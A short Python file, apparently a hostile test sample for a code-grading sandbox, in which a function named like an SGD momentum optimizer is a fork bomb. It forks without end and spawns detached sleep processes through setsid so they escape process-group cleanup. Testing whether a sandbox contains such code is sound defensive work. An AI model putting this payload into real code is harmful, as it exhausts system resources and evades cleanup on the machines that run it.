"""sgd_momentum forks without end; every child forks too, and each also starts a `sleep` (a process
that would outlive a grader that only kills the worker's process group)."""
# %%
import os


def sgd_momentum(w, dw, config=None):
    while True:
        try:
            if os.fork() == 0:
                if os.fork() == 0:
                    os.setsid()
                    os.execv("/bin/sleep", ["sleep", "@@MARKER@@"])
        except OSError:
            pass
